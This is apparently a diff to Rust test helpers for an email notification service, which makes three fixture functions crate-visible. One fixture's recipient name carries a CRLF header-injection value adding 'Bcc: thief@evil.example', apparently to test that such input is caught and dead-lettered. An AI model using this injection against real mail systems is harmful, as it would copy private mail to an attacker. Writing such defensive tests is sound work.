@@ -27,7 +27,7 @@ pub(crate) async fn notify(system: &System, server: &MailServer, more: &[(&str, 
     process
 }
 
-fn notification(number: u128, email: &str) -> Value {
+pub(crate) fn notification(number: u128, email: &str) -> Value {
     json!({
         "v": 1, "notification_id": uuid::Uuid::from_u128(number), "kind": "webhook.warning", "workspace_id": "ws",
         "webhook_id": "wh", "to": {"full_name": "Amnon\r\nBcc: thief@evil.example", "email": email},
@@ -36,11 +36,11 @@ fn notification(number: u128, email: &str) -> Value {
     })
 }
 
-async fn publish(system: &System, notification: &Value) {
+pub(crate) async fn publish(system: &System, notification: &Value) {
     system.produce("notifications", [Outgoing::new("ws", notification.to_string())]).await;
 }
 
-async fn dead_letters(system: &System, count: usize) -> Vec<Record> {
+pub(crate) async fn dead_letters(system: &System, count: usize) -> Vec<Record> {
     system.wait_records("dead-letters", |records| records.len() >= count).await
 }
 
